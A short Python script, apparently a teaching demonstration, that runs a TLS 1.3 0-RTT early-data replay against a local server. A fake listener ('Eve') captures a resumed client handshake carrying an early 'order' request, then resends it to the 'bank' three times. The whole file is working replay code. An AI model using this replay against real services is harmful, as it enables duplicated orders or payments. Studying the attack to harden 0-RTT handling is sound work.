import socket, subprocess, sys

# replay.py PATH: a client orders early, Eve keeps its packets
# and sends them to the bank three times (one run at a time)
BANK = ("127.0.0.1", 9447)
order = f"GET {sys.argv[1]} HTTP/1.0\r\n\r\n".encode()

# #region visit
def client(port, *more):
    return subprocess.Popen(
        ["openssl", "s_client", "-connect", f"127.0.0.1:{port}",
         "-servername", "bank.example", *more],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL)

#: A first visit, from which the client keeps a ticket.
visit = client(9447, "-sess_out", "ticket", "-ign_eof")
visit.communicate(b"GET /hello HTTP/1.0\r\n\r\n")
# #endregion visit

#: The second time it sends ticket and order at once. But here is Eve,
#: who keeps what comes, and answers nothing.
door = socket.create_server(("127.0.0.1", 0))
open("order", "wb").write(order)
again = client(door.getsockname()[1],
               "-sess_in", "ticket", "-early_data", "order")
wire, _ = door.accept()
wire.settimeout(2)
kept = b""
try:
    while data := wire.recv(9999):
        kept += data
except TimeoutError:
    again.kill()

#: Now she sends it, as often as she likes.
for _ in range(3):
    with socket.create_connection(BANK) as bank:
        bank.sendall(kept)
        bank.recv(9999)
